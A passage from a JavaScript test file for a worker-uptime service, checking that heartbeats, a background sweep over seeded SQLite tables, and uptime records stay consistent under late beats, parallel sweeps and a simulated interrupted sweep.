    await problem(await call("GET", `/workers/${wallet}/uptime?${query}`, undefined, session), 400);
  }
  // An offset's plus sign that is not escaped is a blank.
  const { errors } = await problem(await call("GET", `/workers/${wallet}/uptime?from=2026-03-29T00:00:00+01:00`, undefined, session), 400);
  assert.match(errors[0].detail, /`%2B`/);
});

test("A late beat after the sweep makes the record longer, never double", async () => {
  const { wallet, session, beat } = await newMachine();
  const start = Date.now() - 3 * 60 * MINUTE_MS;
  await beat(start);
  await beat(start + 10 * MINUTE_MS);
  await sweep();
  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 10 * MINUTE_MS }]);
  assert.equal((await beat(start + 40 * MINUTE_MS)).window.startTime, iso(start));
  const total = async () => (await call("GET", `/workers/${wallet}/uptime`, undefined, session)).headers.get("x-uptime-seconds");
  assert.equal(await total(), "2400");
  await sweep();
  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 40 * MINUTE_MS }]);
  // Closed by the next window, without a sweep between.
  await beat(start + 41 * MINUTE_MS);
  await beat(start + 90 * MINUTE_MS);
  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 41 * MINUTE_MS }]);
  assert.equal(await total(), "2460");
});

/** Adds machines whose names begin alike. The first `silent` of them have been silent for an hour. */
async function addMachines(prefix, count, silent) {
  const now = Date.now();
  await sql(
    `INSERT INTO worker_windows (wallet, start_at, end_at, seen_at, containers)
     WITH RECURSIVE n(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM n WHERE n < CAST(? AS INTEGER) - 1)
     SELECT '0x' || ? || printf('%037d', n * 7919 % 10007), CAST(? AS INTEGER), CAST(? AS INTEGER) - iif(n < CAST(? AS INTEGER), 3600000, 0), CAST(? AS INTEGER), '[]' FROM n`,
    count, prefix, now - 2 * 60 * MINUTE_MS, now, silent, now,
  );
}
const wrong = (prefix) => sql(
  `SELECT w.wallet FROM worker_windows w LEFT JOIN worker_uptime_records r ON r.wallet = w.wallet
   WHERE w.wallet GLOB '0x' || ? || '0000000000*' GROUP BY w.wallet
   HAVING count(r.wallet) <> (w.end_at < w.seen_at) OR (count(r.wallet) = 1 AND (max(r.time_from) <> w.start_at OR max(r.time_to) <> w.end_at))`, prefix);
const recorded = async (prefix) => (await row("SELECT count(*) AS n FROM worker_uptime_records WHERE wallet GLOB '0x' || ? || '0000000000*'", prefix)).n;

test("Of 5,000 machines two sweeps, and two parallel ones, record the 1,000 silent ones once each", async () => {
  await addMachines("aaa", 5_000, 1_000);
  await sweep();
  assert.equal(await recorded("aaa"), 1_000);
  assert.deepEqual(await wrong("aaa"), []);
  const before = await uptimeRows();
  await sweep();
  assert.deepEqual(await uptimeRows(), before, "a second sweep finds nothing to do");

  await addMachines("bbb", 5_000, 1_000);
  await Promise.all([sweep(), sweep(), sweep()]);
  await sweep();
  assert.equal(await recorded("bbb"), 1_000);
  assert.deepEqual(await wrong("bbb"), []);
  assert.equal((await row("SELECT after_wallet FROM fleet_sweep")).after_wallet, "");
});

test("An interrupted sweep goes on where it stopped, and leaves no machine out", async () => {
  await addMachines("ccc", 3_000, 1_000);
  // The database refuses the next piece, as if the process had died there.
  const [{ wallet: middle }] = await sql("SELECT wallet FROM worker_windows WHERE wallet GLOB '0xccc0000000000*' ORDER BY wallet LIMIT 1 OFFSET 1500");
  await sql(`CREATE TRIGGER fault BEFORE UPDATE ON worker_windows WHEN NEW.wallet > '${middle}' BEGIN SELECT RAISE(ABORT, 'injected fault'); END`);
  await sweep();
  await sql("DROP TRIGGER fault");
  const { after_wallet } = await row("SELECT after_wallet FROM fleet_sweep");
  const some = await recorded("ccc");
  assert.ok(after_wallet !== "" && after_wallet <= middle && some < 1_000, `${some} after ${after_wallet}`);
  await sweep();
  assert.equal(await recorded("ccc"), 1_000);
  assert.deepEqual(await wrong("ccc"), []);
});

test("Beats in the middle of a sweep are not lost", async () => {
  const machines = await Promise.all(Array.from({ length: 8 }, newMachine));
  const start = Date.now() - 3 * 60 * MINUTE_MS;
  await Promise.all(machines.map(({ beat }) => beat(start)));
  const [, ...told] = await Promise.all([sweep(), sweep(), ...machines.map(({ beat }) => beat(start + 20 * MINUTE_MS))]);
  assert.ok(told.length > 0);
  await sweep();
  for (const { wallet } of machines) assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 20 * MINUTE_MS }]);
});
